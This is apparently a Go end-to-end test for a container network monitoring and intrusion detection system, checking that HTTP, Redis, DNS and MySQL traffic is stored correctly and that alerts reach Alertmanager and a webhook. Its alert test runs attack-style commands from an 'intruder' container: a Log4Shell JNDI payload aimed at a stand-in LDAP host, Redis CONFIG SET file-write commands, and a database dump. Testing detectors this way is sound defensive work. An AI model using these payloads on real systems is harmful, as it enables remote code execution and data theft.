package main

import (
	"bufio"
	"bytes"
	"encoding/json"
	"fmt"
	"os"
	"strings"
	"testing"
	"time"
)

// TestEndToEnd runs everything on a Docker host: traffic on every path, logs without a pause, alerts at
// Alertmanager and a webhook. Meanwhile the collector, the engine and the store are killed.
func TestEndToEnd(t *testing.T) {
	if testing.Short() {
		t.Skip("it starts a Docker host")
	}
	system := newE2ESystem(t)
	system.startServers()
	system.docker("network", "create", "second")
	for _, name := range []string{"web", "cache", "db", "dns"} {
		system.docker("network", "connect", "second", name)
	}
	system.startCollector()

	t.Run("paths", system.testPaths)
	t.Run("alerts", system.testAlerts)
	t.Run("kills", system.testKills)

	system.expectRows("every event is stored once", `SELECT count() = uniqExact("event.id"),
		count() = uniqExact((_partition, _offset, _index)) FROM events`, "1 1")
	system.expectRows("every alert is stored once", `SELECT count() = uniqExact(id, revision) FROM alert_revisions`, "1")
}

// withTest returns a copy of the system whose failures are those of a subtest.
func (s *e2eSystem) withTest(t *testing.T) *e2eSystem {
	bound, host := *s, *s.dockerHost
	host.t = t
	bound.dockerHost = &host
	return &bound
}

// testPaths sends traffic on every path and requires that each transaction is stored once, between the right
// endpoints.
func (s *e2eSystem) testPaths(t *testing.T) {
	s = s.withTest(t)
	const transactions = 40
	address := func(server, network string) string { return s.containerAddress(server, network, "4") }
	web, web6 := address("web", "bridge"), s.containerAddress("web", "bridge", "6")
	runClient := func(name string, task workload, options ...string) {
		task.Transactions = transactions
		s.runClient(task, append([]string{"--name", name}, options...)...)
	}

	// From containers, in both networks and over IPv6.
	allServers := func(network string) workload {
		return workload{
			Case: network, HTTP: address("web", network) + ":8080", Redis: address("cache", network) + ":6379",
			DNS: address("dns", network) + ":53", MySQL: address("db", network) + ":3306",
		}
	}
	runClient("c-bridge", allServers("bridge"))
	runClient("c-second", allServers("second"), "--network", "second")
	cache6 := s.containerAddress("cache", "bridge", "6")
	runClient("c-six", workload{Case: "six", HTTP: "[" + web6 + "]:8080", Redis: "[" + cache6 + "]:6379"})

	// From outside, through the published port and by routing.
	for name, addr := range map[string]string{
		"published": hostIP + ":9090", "routed": web + ":8080", "routed6": "[" + web6 + "]:8080",
	} {
		s.mustRun(s.visitorCommand(workload{Case: name, Transactions: transactions, HTTP: addr}))
	}

	// From one port through the published port and by routing: the kernel gives the second connection another port.
	for _, path := range [][2]string{{"port", hostIP + ":9090"}, {"port-again", web + ":8080"}} {
		s.mustRun(s.visitorCommand(workload{Case: path[0], Transactions: transactions, HTTP: path[1], SourcePort: 20000}))
		time.Sleep(time.Second)
	}

	// From a container to a server outside, through SNAT.
	server := s.visitorCommand(workload{ListenAddr: outsideIP + ":8000"})
	s.check(server.Start())
	s.eventually("a server outside", 10*time.Second, func() string {
		if err := s.hostCommand("curl", "-sf", "http://"+outsideIP+":8000/").Run(); err != nil {
			return err.Error()
		}
		return ""
	})
	runClient("c-out", workload{Case: "out", HTTP: outsideIP + ":8000"})
	s.check(server.Process.Kill())
	_ = server.Wait()

	s.expectHTTP("bridge", transactions, "c-bridge", "web", web, 8080)
	s.expectHTTP("second", transactions, "c-second", "web", address("web", "second"), 8080)
	s.expectHTTP("six", transactions, "c-six", "web", web6, 8080)
	s.expectHTTPFromOutside(transactions, web, web6)
	s.expectOtherProtocols(transactions)
	s.expectRows("labels are stored", `SELECT DISTINCT container_labels['app'], "container.image.name", "host.name",
			"orchestrator.cluster.name"
		FROM events WHERE "event.dataset" = 'http' AND "url.path" LIKE '/e2e/bridge/%'`, "shop skel dock1 e2e")
	s.expectRows("every line of nginx", `SELECT count(), uniqExact(message) FROM events
		WHERE "event.dataset" = 'log' AND "container.name" = 'web' AND message LIKE '%GET /e2e/bridge/%'`,
		fmt.Sprintf("%d %d", transactions, transactions))
}

// expectHTTP requires the requests of a case, all from one client container to one server container.
func (s *e2eSystem) expectHTTP(name string, requests int, client, server, addr string, port int) {
	s.t.Helper()
	s.expectRows("http "+name, fmt.Sprintf(`SELECT count(), uniqExact("event.id"), countIf("event.partial"),
			any("source.container.name"), any("destination.container.name"), any("container.name"),
			any("destination.ip"), any("destination.port"), uniqExact("source.ip")
		FROM events WHERE "event.dataset" = 'http' AND "url.path" LIKE '/e2e/%s/%%'`, name),
		fmt.Sprintf("%d %d 0 %s %s %s %s %d 1", requests, requests, client, server, server, addr, port))
}

// expectHTTPFromOutside requires the requests between containers and outside, with the addresses of both
// endpoints and the translated ones.
func (s *e2eSystem) expectHTTPFromOutside(requests int, web, web6 string) {
	s.t.Helper()
	counts := fmt.Sprintf("%d %d 0 ", requests, requests)
	s.expectEndpoints("published http", "published", counts+outsideIP+"/ "+web+":8080/web")
	s.expectEndpoints("routed http", "routed", counts+outsideIP+"/ "+web+":8080/web")
	s.expectEndpoints("http from one port", "port", counts+outsideIP+"/ "+web+":8080/web")
	s.expectEndpoints("http from one port again", "port-again", counts+outsideIP+"/ "+web+":8080/web")
	s.expectEndpoints("routed http over IPv6", "routed6", counts+outsideIP6+"/ "+web6+":8080/web")
	s.expectRows("http through SNAT", fmt.Sprintf(`SELECT count(), uniqExact("event.id"),
			any("source.container.name"), any("container.name")
		FROM events WHERE "event.dataset" = 'http' AND "url.path" LIKE '/e2e/out/%%' AND "destination.ip" = '%s'`,
		outsideIP), fmt.Sprintf("%d %d c-out c-out", requests, requests))
	s.expectRows("the outside address of a published port",
		`SELECT DISTINCT "destination.nat.ip", "destination.nat.port" FROM events
		WHERE "event.dataset" = 'http' AND "url.path" LIKE '/e2e/published/%' ORDER BY 1`, hostIP+" 9090")
}

// expectOtherProtocols requires the Redis commands, DNS queries and MySQL queries of the containers.
func (s *e2eSystem) expectOtherProtocols(transactions int) {
	s.t.Helper()
	for _, name := range []string{"bridge", "second", "six"} {
		s.expectRows("redis "+name, fmt.Sprintf(`SELECT count(), uniqExact("event.id"),
				any("source.container.name"), any("destination.container.name")
			FROM events
			WHERE "event.dataset" = 'redis' AND "redis.command" = 'SET' AND "redis.key" LIKE 'e2e:%s:%%'`, name),
			fmt.Sprintf("%d %d c-%s cache", transactions, transactions, name))
	}
	for _, name := range []string{"bridge", "second"} {
		s.expectRows("dns "+name, fmt.Sprintf(`SELECT count(), uniqExact("event.id"),
				any("source.container.name"), any("destination.container.name"), any(dns_answers_data[1])
			FROM events WHERE "event.dataset" = 'dns' AND "dns.question.name" LIKE 'n%%.%s.e2e.example'`, name),
			fmt.Sprintf("%d %d c-%s dns 192.0.2.10", transactions, transactions, name))
		s.expectRows("mysql "+name, fmt.Sprintf(`SELECT count(), uniqExact("event.id"),
				any("source.container.name"), any("destination.container.name"), sum("mysql.rows")
			FROM events WHERE "event.dataset" = 'mysql' AND "mysql.command" = 'COM_QUERY'
				AND "mysql.query" LIKE 'SELECT ''e2e-%s-%%'`, name),
			fmt.Sprintf("%d %d c-%s db %d", transactions, transactions, name, transactions))
	}
}

// testAlerts raises one alert of each detector and requires it at Alertmanager and at the webhook.
func (s *e2eSystem) testAlerts(t *testing.T) {
	s = s.withTest(t)
	address := func(server string) string { return s.containerAddress(server, "bridge", "4") }
	web, cache, db, dns := address("web"), address("cache"), address("db"), address("dns")
	s.runContainer("--name", "intruder", "--", "bash", "-c", fmt.Sprintf(
		`curl -s -A '${jndi:ldap://192.0.2.66/a}' http://%s:8080/x
redis-cli -h %s CONFIG SET dir /tmp
redis-cli -h %s CONFIG SET dbfilename x
mariadb -h %s -u root -e 'CREATE DATABASE shop; CREATE TABLE shop.items (id INT, name TEXT); INSERT INTO shop.items VALUES (1, "a")'
mariadb-dump -h %s -u root shop items >/dev/null
true`, web, cache, cache, db, db))
	for _, name := range []string{"www.bad.e2e.example", "xjq7kvw2zt9hpb4m.e2e.example", "xjq7kvw2zt9hpb4m.example"} {
		s.runClient(workload{Case: "lookup", Transactions: 1, DNS: dns + ":53", QueryName: name}, "--rm")
	}

	// By the real tools. Redis 7 refuses the settings, which are protected.
	for _, rule := range []string{"http-log4shell", "redis-attack-refused", "mysql-dump"} {
		s.expectRows("alert of "+rule, fmt.Sprintf("SELECT count() > 0 FROM alerts WHERE rule = '%s'", rule), "1")
	}
	for _, detector := range []string{"rules", "feeds", "classifier"} {
		s.expectRows("alert of "+detector,
			fmt.Sprintf("SELECT count() > 0 FROM alerts WHERE detector = '%s'", detector), "1")
		s.eventually("alert of "+detector+" at Alertmanager", 30*time.Second, func() string {
			return s.findInAlertmanager(detector)
		})
		s.eventually("alert of "+detector+" at the webhook", 30*time.Second, func() string {
			return s.findInWebhooks(detector)
		})
	}
}

// findInAlertmanager returns "" if Alertmanager has an alert of a detector. Otherwise it returns what
// Alertmanager has.
func (s *e2eSystem) findInAlertmanager(detector string) string {
	out, err := s.hostCommand("curl", "-sf", "http://127.0.0.1:9093/api/v2/alerts").Output()
	if err != nil {
		return err.Error()
	}
	var alerts []struct{ Labels, Annotations map[string]string }
	if err := json.Unmarshal(out, &alerts); err != nil {
		return err.Error()
	}
	for _, alert := range alerts {
		if alert.Labels["detector"] == detector {
			return ""
		}
	}
	return string(out)
}

// findInWebhooks returns "" if the webhook has received an alert of a detector, with an Idempotency-Key.
// Otherwise it returns what the webhook has received.
func (s *e2eSystem) findInWebhooks(detector string) string {
	received, _ := os.ReadFile(s.webhookFile)
	for lines := bufio.NewScanner(bytes.NewReader(received)); lines.Scan(); {
		key, body, _ := strings.Cut(lines.Text(), " ")
		if key != "" && strings.Contains(body, `"detector":"`+detector+`"`) {
			return ""
		}
	}
	return string(received)
}
